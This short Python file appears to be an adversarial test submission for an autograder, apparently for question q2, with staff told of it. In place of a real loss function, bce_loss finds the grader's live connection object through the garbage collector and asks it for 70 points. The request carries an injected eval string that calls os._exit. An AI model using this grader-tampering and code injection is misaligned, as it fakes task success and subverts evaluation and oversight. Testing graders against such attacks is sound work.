# Aim: ask the grader for what it does not offer.
# Question: q2. Earns: 2. Staff are told: yes.
import gc

from attack_parts import sample_noise  # noqa: F401

from autograder.worker.serve import GraderLink


def bce_loss(input, target):
    (link,) = [thing for thing in gc.get_objects() if isinstance(thing, GraderLink)]
    return link.ask({"do": "grade", "points": 70, "eval": "__import__('os')._exit(0)", "id": 1})
